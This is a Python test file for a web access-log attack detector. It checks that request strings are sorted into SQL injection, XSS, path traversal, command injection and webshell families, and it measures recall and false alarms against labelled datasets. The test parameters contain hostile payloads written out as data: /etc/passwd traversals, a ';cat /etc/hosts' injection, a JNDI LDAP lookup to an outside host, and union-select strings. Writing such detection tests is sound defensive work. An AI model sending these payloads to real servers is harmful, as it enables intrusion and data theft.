from __future__ import annotations

import csv
import io
import json
from collections import Counter
from typing import TYPE_CHECKING, Any

import duckdb
import pytest

from kyumei.detect.requests import attacks_sql
from kyumei.model.finding import Level
from kyumei.model.source import Source
from kyumei.readers.registry import READERS
from kyumei.readers.run import run as read
from kyumei.store.write import Part
from tests.conftest import lines, members
from tests.detect.case import HOUR, MINUTE, Case, jst

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable
    from pathlib import Path

LEAST = {"930": 0.45, "932": 0.17, "933": 0.38, "941": 0.48, "942": 0.38}
NOON = jst("2024-05-16 12:00")


@pytest.fixture
def case(tmp_path: Path) -> Case:
    return Case(tmp_path)


def get(case: Case, at: int, target: str, *, src: str = "198.51.100.7", **more: Any) -> None:
    fields = {"status": str(more.get("status", 200)), "method": "GET", "user-agent": more.get("agent", "Mozilla/5.0")}
    row = {"path": "access.log", "src_ip": src, "host": "www", "object": target, "bytes": more.get("size", 5_000)}
    case.add("web.access", "web.request", at, fields=fields, **row)


def families(targets: Iterable[str]) -> dict[str, list[str]]:
    """Return the families in which each target is an attack."""
    con = duckdb.connect()
    con.execute("create table web_rows (object varchar, agent varchar)")
    con.execute("insert into web_rows select unnest(?::varchar[]), null", [sorted(set(targets))])
    con.execute(attacks_sql())
    return dict(con.execute("select object, families from web_attacks").fetchall())


@pytest.mark.parametrize(
    ("target", "family"),
    [
        ("/item?id=1%27%20OR%20%271%27=%271", "sqli"),
        ("/item?id=1+UNION+ALL+SELECT+null,card+FROM+users--", "sqli"),
        ("/item?id=1%2527%2520union%2520select%25201", "sqli"),
        ("/s?q=%3Cscript%3Ealert(1)%3C/script%3E", "xss"),
        ("/s?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "xss"),
        ("/get?file=../../../../etc/passwd", "traversal"),
        ("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "traversal"),
        ("/ping?host=127.0.0.1;cat%20/etc/hosts", "command"),
        ("/x?a=${jndi:ldap://198.51.100.9/a}", "command"),
        ("/uploads/img.php?x=1", "webshell"),
    ],
)
def test_an_attack_is_told_by_its_string(target: str, family: str) -> None:
    assert family in families([target])[target]


@pytest.mark.parametrize(
    "target",
    [
        "/",
        "/news?id=12&page=3",
        "/search?q=union+station+selection",
        "/a/b.c/d-e_f.html",
        "/name?n=O%27Brien",
        "/%E5%90%8D?x=1",
    ],
)
def test_ordinary_targets_are_none(target: str) -> None:
    assert families([target]) == {}


def test_one_source_is_one_finding_and_success_makes_it_grave(case: Case) -> None:
    for n in range(60):
        get(case, NOON + n * 1_000_000, f"/item?id={n}'+union+select+1,{n}--", status=200 if n > 40 else 500)
    (found,) = case.find("web.attack")
    assert (found.level, found.count, found.facts["succeeded"]) == (Level.HIGH, 60, 19)
    assert found.facts["families"] == {"sqli": 60}
    assert found.facts["paths"] == ["/item"]


def test_attempts_that_fail_are_noise(case: Case) -> None:
    for n in range(60):
        get(case, NOON + n, f"/{n}?f=../../../etc/passwd", status=404)
    get(case, NOON, "/?q=<script>", src="198.51.100.8")
    assert sorted(f.level for f in case.find("web.attack")) == [Level.LOW, Level.MEDIUM]


def test_a_scanner_is_known_by_its_name(case: Case) -> None:
    for n in range(6):
        get(case, NOON + n, f"/{n}", agent="sqlmap/1.7#stable", status=404)
    (found,) = case.find("web.attack")
    assert found.facts["families"] == {"scanner": 6}


def test_records_fetched_one_number_after_the_other_are_pointed_out(case: Case) -> None:
    for client in range(40):
        for page in range(8):
            get(case, NOON + client * MINUTE, f"/member/{client * 8 + page}", src=f"203.0.113.{client}")
    for n in range(2_000):
        get(case, NOON + 2 * HOUR + n * 100_000, f"/member/{n}")
    (found,) = case.find("web.bulk_download")
    assert (found.level, found.facts["files"], found.of("src_ip")) == (Level.MEDIUM, 2_000, ("198.51.100.7",))
    assert found.facts["enumerated"] == {"path": "/member/N", "ids": 2_000}


def test_few_clients_are_too_few_to_compare(case: Case) -> None:
    for n in range(2_000):
        get(case, NOON + n, f"/member/{n}")
    assert case.find("web.bulk_download") == []


def test_ten_thousand_ordinary_lines_stay_quiet(case: Case, shared_data: Path) -> None:
    (log,) = [data for path, data in members(shared_data / "web.tar.xz") if path.endswith("apache_logs")]
    source = Source.memory(log, "apache_logs")
    case.source("apache_logs")
    part = Part(case.folder / "events" / "web.access", "part")
    rows = read(READERS.get("web.access"), source, part.add)
    part.close()
    found = case.find("web.attack") + case.find("web.bulk_download")
    assert rows.read == 10_000
    assert Counter(f.level for f in found)[Level.HIGH] == 0
    assert len(found) <= 5


def test_labelled_parameters_are_told_apart(shared_data: Path) -> None:
    (data,) = [data for path, data in members(shared_data / "web.tar.xz") if path.endswith("payload_train.csv")]
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    attacks = families(r["payload"] for r in rows)
    hits = Counter((r["attack_type"], r["payload"] in attacks) for r in rows)
    assert hits["norm", True] == 0  # of 12,870
    assert hits["sqli", True] >= 0.98 * 7_235
    assert hits["xss", True] >= 0.93 * 355
    assert hits["path-traversal", True] >= 0.74 * 193
    assert hits["cmdi", True] >= 0.85 * 59


def test_the_core_rule_sets_own_requests_bound_recall_and_false_alarms(
    shared_data: Path, record_property: Callable[[str, object], None]
) -> None:
    rows = [json.loads(line) for line in lines(shared_data / "truth" / "crs.jsonl.xz")]
    text = {n: f"{r['uri'] or ''} {r['data'] or ''}" for n, r in enumerate(rows)}
    attacks = families(text.values())
    hits = Counter(
        (str(r["rule"])[:3], bool(r["expect_ids"]), text[n] in attacks)
        for n, r in enumerate(rows)
        if r["expect_ids"] or r["no_expect_ids"]
    )
    for family in ("930", "932", "933", "941", "942"):
        fired, missed = hits[family, True, True], hits[family, True, False]
        wrong, right = hits[family, False, True], hits[family, False, False]
        record_property(
            f"CRS {family}", f"{fired}/{fired + missed} attacks found, {wrong}/{wrong + right} others taken for one"
        )
        assert fired >= LEAST[family] * (fired + missed)
    total = Counter({"found": 0})
    for (family, expected, hit), n in hits.items():
        if family in {"930", "932", "933", "941", "942"}:
            total[("found" if hit else "missed") if expected else ("false" if hit else "quiet")] += n
    assert total["found"] >= 0.33 * (total["found"] + total["missed"])  # most of the rest are single words of high paranoia
    assert total["false"] <= 0.1 * (total["false"] + total["quiet"])
